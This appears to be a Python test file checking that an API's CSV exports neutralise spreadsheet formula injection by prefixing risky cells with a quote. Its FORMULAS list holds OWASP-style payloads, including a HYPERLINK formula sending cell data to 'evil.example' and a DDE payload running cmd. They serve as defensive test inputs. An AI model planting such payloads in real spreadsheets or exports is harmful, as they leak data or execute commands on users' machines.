"""`?format=csv` beside the JSON of the decisions export, a batch's results and a batch's
calibration, over HTTP on SQLite and PostgreSQL: a header row with the JSON's fields in
order, one row per JSON line with each value as app/csv_rows.py writes it (a cell that
would start a spreadsheet formula gets a leading `'`), `text/csv; charset=utf-8`; the
JSONL stays the default and unchanged, and an unknown format is a 422."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import httpx2
import pytest

from app.api.batch_schemas import BatchResultLine
from app.calibration.rows import CALIBRATION_COLUMNS
from app.csv_rows import cell
from app.review_queue.export import EXPORT_COLUMNS
from app.settings import Settings
from tests.support.batches import (
    TRANSLATOR_MISMATCH,
    error_of,
    no_api_keys,  # noqa: F401 (autouse)
    post_batch,
    supplied_item,
)
from tests.support.in_process_api import Api, StartApi
from tests.support.review_queue import Desk, open_desk

# External ids and a note a spreadsheet would run (OWASP's CSV injection examples), and one
# it would not.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = 'plain, with a comma and a "quote"\nand a line break'
CSV_TYPE = "text/csv; charset=utf-8"


def parsed(response: httpx2.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == CSV_TYPE
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))


def json_lines(response: httpx2.Response) -> list[dict[str, Any]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("application/x-ndjson")
    return [json.loads(line) for line in response.content.split(b"\n") if line]


def as_cells(columns: tuple[str, ...], rows: list[dict[str, Any]]) -> list[list[str]]:
    """The CSV rows the JSON rows must have become: every field, in order, as a cell."""
    assert all(list(row) == list(columns) for row in rows)  # the CSV has no other field
    return [[cell(row[name]) for name in columns] for row in rows]


async def test_batch_results_as_csv_hold_the_json_lines_neutralised(idle_api: Api) -> None:
    ids = [*FORMULAS, PLAIN]
    items = [supplied_item(n, external_id=value) for n, value in enumerate(ids)]
    items[0]["replies"]["translator"] = TRANSLATOR_MISMATCH  # a reasons list to show
    batch = await post_batch(idle_api, items)
    path = f"/v1/batches/{batch['id']}/results"
    lines = json_lines(await idle_api.client.get(path))
    header, *rows = parsed(await idle_api.client.get(path, params={"format": "csv"}))
    columns = tuple(BatchResultLine.model_fields)
    assert header == list(columns)
    assert rows == as_cells(columns, lines)
    shown = {row[header.index("external_id")] for row in rows}
    assert shown == {"'" + value for value in FORMULAS} | {PLAIN}
    assert json.loads(rows[0][header.index("reasons")]) == lines[0]["reasons"] != []


async def test_an_unknown_format_is_a_422_naming_the_formats(idle_api: Api) -> None:
    batch = await post_batch(idle_api, [supplied_item(0)])
    for path in (f"/v1/batches/{batch['id']}/results", f"/v1/batches/{batch['id']}/calibration"):
        response = await idle_api.client.get(path, params={"format": "xlsx"})
        error = error_of(response, 422)
        assert error["code"] == "validation_error" and "csv" in error["message"], error


async def test_the_decisions_export_as_csv_matches_its_jsonl(
    start_api: StartApi, unconfigured_settings: Settings
) -> None:
    async with open_desk(start_api, unconfigured_settings) as desk:
        for n, value in enumerate([FORMULAS[0], PLAIN]):
            await decide_on(desk, n, external_id=value, note=FORMULAS[-1 - n])
        lines = json_lines(await desk.get("admin", "/v1/decisions/export"))
        header, *rows = parsed(await desk.get("admin", "/v1/decisions/export", format="csv"))
        empty = parsed(await desk.get("admin", "/v1/decisions/export", format="csv", after=10**6))
    assert header == list(EXPORT_COLUMNS) and len(rows) == len(lines) == 2
    assert rows == as_cells(EXPORT_COLUMNS, lines)
    notes = [row[header.index("note")] for row in rows]
    assert notes == ["'" + FORMULAS[-1], "'" + FORMULAS[-2]]
    assert [row[header.index("external_id")] for row in rows] == ["'" + FORMULAS[0], PLAIN]
    assert empty == [list(EXPORT_COLUMNS)]  # the header, even with nothing to export


async def decide_on(desk: Desk, n: int, *, external_id: str, note: str) -> None:
    item = await desk.item_of(await desk.submit(n, "needs_review", external_id=external_id))
    decided = await desk.decide("alice", item["id"], {"decision": "faithful", "note": note})
    assert decided.status_code == 201, decided.text


async def test_a_calibration_as_csv_is_one_row_per_rate_and_slice(idle_api: Api) -> None:
    items = [
        supplied_item(0, translator=TRANSLATOR_MISMATCH, label="mismatch", tags=["-x"]),
        supplied_item(1, label="mismatch", tags=["-x"]),  # a false pass
        supplied_item(2, label="faithful"),
    ]
    batch = await post_batch(idle_api, items)
    path = f"/v1/batches/{batch['id']}/calibration"
    response = await idle_api.client.get(path)
    assert response.status_code == 200, response.text
    body = response.json()
    header, *rows = parsed(await idle_api.client.get(path, params={"format": "csv"}))
    assert header == list(CALIBRATION_COLUMNS)
    by_key = {(row[1], row[2]): row for row in rows}
    rate = body["rates"]["false_pass"]
    assert rate["k"] == 1 and rate["n"] == 2
    expected = [batch["id"], "all", "false_pass", *(cell(rate[f]) for f in CALIBRATION_COLUMNS[3:])]
    assert by_key["all", "false_pass"] == expected
    tagged = body["by_tag"]["-x"]["rates"]["false_pass"]
    assert by_key["tag:-x", "false_pass"][3:5] == [str(tagged["k"]), str(tagged["n"])]
    slices = {"all", "tag:-x", *(f"kind:{kind}" for kind in body["by_kind"])}
    slices |= {f"judge:{name}" for name in body["by_judge"]}
    slices |= {f"lean:{status}" for status in body["by_lean_status"]}
    assert {row[1] for row in rows} == slices
    assert all(row[0] == batch["id"] for row in rows)


@pytest.mark.parametrize(
    ("path", "named"),
    [("/v1/batches/{id}/results", "jsonl"), ("/v1/batches/{id}/calibration", "json")],
)
async def test_the_default_is_the_json_as_before(idle_api: Api, path: str, named: str) -> None:
    batch = await post_batch(idle_api, [supplied_item(0, label="faithful")])
    url = path.format(id=batch["id"])
    default = await idle_api.client.get(url)
    explicit = await idle_api.client.get(url, params={"format": named})
    assert default.status_code == explicit.status_code == 200, default.text
    assert default.content == explicit.content
    assert default.headers["content-type"] == explicit.headers["content-type"] != CSV_TYPE
